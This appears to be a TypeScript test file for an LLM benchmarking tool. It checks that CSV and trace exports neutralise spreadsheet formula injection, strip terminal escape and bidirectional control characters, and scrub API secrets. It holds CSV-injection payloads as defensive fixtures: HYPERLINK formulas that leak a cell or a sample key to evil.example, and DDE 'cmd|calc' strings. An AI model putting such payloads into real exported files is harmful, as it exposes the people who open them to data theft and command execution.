// What the text exports write from untrusted words (a server's ids and errors, an imported tool's
// file): every CSV cell through csv.ts's one function, text that would start a spreadsheet formula
// neutralised as OWASP's CSV Injection page asks (a leading single quote, the cell quoted), numbers
// left numbers, control characters and escape sequences stripped from the CSVs and the trace; and
// every secret the scrubber knows out of all of them (redact.ts scrubRun).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chunksToCsv } from '../../src/engine/files/chunksCsv';
import { csvCell } from '../../src/engine/files/csv';
import { importBenchmarkFile } from '../../src/engine/files/importers/index';
import { Scrubber, scrubRun } from '../../src/engine/core/redact';
import { requestsToCsv } from '../../src/engine/files/runFile';
import { traceToJson } from '../../src/engine/files/traceEvents';
import type { RequestRecord, RunFile, StallCause } from '../../src/engine/core/types';
import { fixtureRun } from '../support/fixtureRuns';
import { parseCsv } from '../support/csv';


/** What a spreadsheet would take as a formula: an unquoted or quoted cell whose text starts with a trigger. */
const FORMULA = /^[ ]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
// eslint-disable-next-line no-control-regex
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uFF1D1+1',
];

test('csvCell: text that would start a formula gets a leading quote and is quoted; other text as RFC 4180 asks', () => {
  for (const s of HOSTILE) {
    const cell = csvCell(s);
    assert.ok(cell.startsWith('"\''), `${JSON.stringify(s)} → ${cell}`);
    assert.ok(cell.endsWith('"'), `${JSON.stringify(s)} is quoted`);
    const [[back]] = parseCsv(`${cell}\r\n`) as [[string]];
    assert.ok(back.startsWith("'") && !FORMULA.test(back), `${JSON.stringify(s)} reads back as text: ${back}`);
  }
  assert.equal(csvCell('=1'), `"'=1"`);
  assert.equal(csvCell('-1.5'), `"'-1.5"`, 'a text field stays text, even when it looks like a number');
  assert.equal(csvCell('say "hi", then go'), '"say ""hi"", then go"');
  assert.equal(csvCell('=a "b", c'), `"'=a ""b"", c"`, 'neutralised and quoted, its quotes doubled');
  assert.equal(csvCell('cmpl-1'), 'cmpl-1', 'a dash inside is no formula');
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell(null), '');
});

test('csvCell: numbers stay numbers (a negative one too), so a spreadsheet can sum them; booleans as they are', () => {
  assert.equal(csvCell(-1.5), '-1.5');
  assert.equal(csvCell(-0.001), '-0.001');
  assert.equal(csvCell(12.25), '12.25');
  assert.equal(csvCell(0), '0');
  assert.equal(csvCell(true), 'true');
});

test('csvCell: control characters and escape sequences are stripped from text; tab and newline inside stay', () => {
  assert.equal(csvCell('\u001b[31mred\u001b[0m'), 'red');
  assert.equal(csvCell('a\u009b2Jb'), 'ab', 'an 8-bit CSI, whole');
  assert.equal(csvCell('\u001b]0;pwned\u0007title'), 'title', 'an OSC, whole');
  assert.equal(csvCell('abc\u202Efed'), 'abcfed', 'a bidirectional override');
  assert.equal(csvCell('nul\u0000here\u007f'), 'nulhere');
  assert.equal(csvCell('two\nlines'), '"two\nlines"');
  assert.equal(csvCell('a\tb'), 'a\tb');
  // a control character cannot hide a formula: stripped first, then checked
  assert.equal(csvCell('\u0007=1+1'), `"'=1+1"`);
});

function hostileRun(): RunFile {
  const base = fixtureRun({ requests: 1, warmup: 0, errorRate: 0 });
  const ok = base.requests[0]!;
  const requests: RequestRecord[] = HOSTILE.map((s, i) => ({
    index: i, warmup: false, scheduledAt: ok.scheduledAt, sentAt: ok.sentAt + i, outputTokens: 0, tokenSource: 'chunks', chunkTimesMs: [5, 9],
    responseId: s, ttftMs: -1.5, httpStatus: 500, error: { kind: 'http', status: 500, message: `${s}\u001b[2J\u202E` },
    stalls: [{ atChunk: 1, gapMs: 4, cause: s as StallCause, culprits: [] }],
  }));
  return { ...base, requests };
}

test('the requests CSV and the chunks CSV: no cell of a server\'s or a file\'s text starts a formula or holds a control; numbers stay numbers', () => {
  const run = scrubRun(hostileRun(), new Scrubber());
  for (const [what, csv] of [['requests', requestsToCsv(run)], ['chunks', chunksToCsv(run)]] as const) {
    const rows = parseCsv(csv).slice(1);
    assert.ok(rows.length >= HOSTILE.length, what);
    for (const row of rows) {
      for (const cell of row) {
        assert.ok(!FORMULA.test(cell) || /^-\d+(\.\d+)?$/.test(cell), `${what}: a cell starts a formula: ${JSON.stringify(cell)}`);
        assert.ok(!CONTROLS.test(cell), `${what}: a cell holds a control: ${JSON.stringify(cell)}`);
      }
    }
  }
  const rows = parseCsv(requestsToCsv(run));
  const header = rows[0]!;
  const first = rows[1]!;
  assert.equal(first[header.indexOf('ttftMs')], '-1.5', 'a negative number is written as a number');
  assert.equal(first[header.indexOf('responseId')], `'${HOSTILE[0]}`);
  assert.equal(first[header.indexOf('errorMessage')], `'${HOSTILE[0]}`);
});

test('the trace: no control character or escape sequence in any of its strings (JSON escapes C0 only)', () => {
  const text = traceToJson(scrubRun(hostileRun(), new Scrubber()));
  const strings: string[] = [];
  JSON.parse(text, (_k, v: unknown) => {
    if (typeof v === 'string') strings.push(v);
    return v;
  });
  for (const s of strings) assert.ok(!CONTROLS.test(s), `a trace string holds a control: ${JSON.stringify(s)}`);
  assert.ok(!/[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/.test(text), 'no C1 control or bidirectional override, raw, in the file');
  assert.ok(!text.includes('\\u001b'), 'no escape sequence, escaped, in the file');
});

test('an imported vLLM file\'s error text: neutralised in the CSV, its secret scrubbed from every export', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'text-exports-'));
  try {
    const SECRET = 'sk-imported-0b1c2d3e4f5a';
    const doc = JSON.parse(readFileSync(join(__dirname, '../fixtures/vllm/burst.json'), 'utf8')) as Record<string, unknown[]>;
    const errors = doc.errors!.map((e, i) => (i === 0 ? `=HYPERLINK("http://evil.example/${SECRET}","401")` : e));
    const ttfts = doc.ttfts!.map((t, i) => (i === 0 ? 0 : t));
    const file = join(dir, 'vllm.json');
    writeFileSync(file, JSON.stringify({ ...doc, model_id: SECRET, errors, ttfts }));
    const run = scrubRun(await importBenchmarkFile(file), new Scrubber([SECRET]));
    const csv = requestsToCsv(run);
    const failed = parseCsv(csv).find((row) => row.some((c) => c.includes('HYPERLINK')));
    assert.ok(failed, 'the error text is in the CSV');
    assert.ok(failed.every((c) => !FORMULA.test(c) || /^-\d/.test(c)), `no formula: ${JSON.stringify(failed)}`);
    for (const [what, text] of [['requests CSV', csv], ['chunks CSV', chunksToCsv(run)], ['trace', traceToJson(run)], ['run', JSON.stringify(run)]]) {
      assert.ok(!text!.includes(SECRET), `${what} carries the secret`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('scrubRun: the endpoint redacted, every string and every name holding a secret scrubbed; the run given is left as it was', () => {
  const SECRET = 'sk-echo-1a2b3c4d5e';
  const base = fixtureRun({ requests: 1, warmup: 0, errorRate: 0 });
  const echoed: RunFile = {
    ...base,
    endpoint: { ...base.endpoint, url: `https://user:${SECRET}@example.com/v1?api_key=${SECRET}`, model: SECRET, headers: { 'X-Api-Key': SECRET, 'X-Team': 'perf' } },
    requests: base.requests.map((r) => ({ ...r, responseId: `chatcmpl-${SECRET}`, intermediaries: { [`x-echo-${SECRET}`]: SECRET, via: '1.1 proxy' } })),
  };
  const safe = scrubRun(echoed, new Scrubber([SECRET]));
  assert.ok(!JSON.stringify(safe).includes(SECRET), JSON.stringify(safe.endpoint));
  assert.equal(safe.endpoint.model, '<redacted>');
  assert.equal(safe.endpoint.headers?.['X-Team'], 'perf');
  assert.deepEqual(safe.requests[0]!.intermediaries, { 'x-echo-<redacted>': '<redacted>', via: '1.1 proxy' });
  assert.deepEqual(safe.requests[0]!.chunkTimesMs, base.requests[0]!.chunkTimesMs);
  assert.equal(echoed.endpoint.model, SECRET, 'the run given is not changed');
  // the exports take only what scrubRun made: a RunFile as it is does not type-check
  // @ts-expect-error a RunFile is not a ScrubbedRun
  requestsToCsv(echoed);
  // @ts-expect-error a RunFile is not a ScrubbedRun
  traceToJson(echoed);
});
